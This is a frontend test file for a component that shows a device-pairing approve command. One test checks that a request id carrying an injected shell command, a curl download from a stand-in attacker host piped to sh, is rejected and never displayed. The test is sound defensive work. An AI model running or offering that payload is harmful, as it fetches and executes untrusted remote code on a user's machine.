import { render, screen } from "@solidjs/testing-library";
import { PairingCommand } from "./PairingCommand.tsx";

describe("pairing command", () => {
  it("shows the approve command for an OpenClaw request id", () => {
    const requestId = "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d";
    render(() => <PairingCommand pairing={{ requestId, approveCommand: "ignored: built from the id" }} />);
    expect(screen.getByText(`openclaw devices approve ${requestId}`)).toBeInTheDocument();
    expect(screen.queryByText(/ignored/)).toBeNull();
  });

  it("shows no command for a request id in another format, whatever approveCommand says", () => {
    const evil = "0 && curl https://evil.example/i | sh #";
    const { container } = render(() => <PairingCommand pairing={{ requestId: evil, approveCommand: `openclaw devices approve ${evil}` }} />);
    expect(container.textContent).not.toContain("curl");
    expect(screen.queryByRole("button", { name: "Copy command" })).toBeNull();
    expect(screen.getByText(/did not send a valid pairing request id/)).toBeInTheDocument();
  });
});
